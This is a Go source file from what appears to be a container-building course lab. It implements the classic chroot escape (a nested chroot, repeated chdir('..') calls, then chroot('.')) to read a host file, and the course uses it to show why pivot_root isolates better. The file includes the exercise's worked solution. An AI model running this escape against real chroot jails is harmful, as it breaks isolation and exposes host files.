//mini:chapter 01

// Command breakout is the chroot lab: it escapes from a chroot the classic way and prints a
// file of the host's, to prove it got out.
//
//	breakout /path/of/a/host/file
//
// It works in --isolation=chroot and fails under pivot_root: compare the two, and read
// chapter 01's lesson for why. It needs to run as root (CAP_SYS_CHROOT), like every container
// process in Mini so far.
package main

import (
	"fmt"
	"os"

	"golang.org/x/sys/unix"
)

func main() {
	if len(os.Args) != 2 {
		fmt.Fprintln(os.Stderr, "usage: breakout /path/of/a/host/file")
		os.Exit(2)
	}
	if err := escape(); err != nil {
		fmt.Fprintln(os.Stderr, "breakout:", err)
		os.Exit(1)
	}
	data, err := os.ReadFile(os.Args[1])
	if err != nil {
		fmt.Fprintln(os.Stderr, "breakout: still inside:", err)
		os.Exit(1)
	}
	fmt.Printf("escaped: %s", data)
}

// escape leaves the chroot. chroot(2) moves the root but not the current directory, and a new
// chroot into a subdirectory leaves the current directory *outside* the new root, where ".."
// is no longer stopped at the root. Climbing up from there reaches the real root.
func escape() error {
	//mini:solution 01.2 Escape: chroot into a new subdirectory (the current directory stays outside it), climb with chdir("..") many times, then chroot(".").
	if err := os.MkdirAll("/.breakout", 0o700); err != nil {
		return fmt.Errorf("mkdir: %w", err)
	}
	if err := unix.Chroot("/.breakout"); err != nil {
		return fmt.Errorf("chroot into the subdirectory: %w", err)
	}
	for i := 0; i < 64; i++ {
		if err := unix.Chdir(".."); err != nil {
			return fmt.Errorf("climb: %w", err)
		}
	}
	if err := unix.Chroot("."); err != nil {
		return fmt.Errorf("chroot to the real root: %w", err)
	}
	return nil
	//mini:stub return todo.Step("01.2")
	//mini:end
}
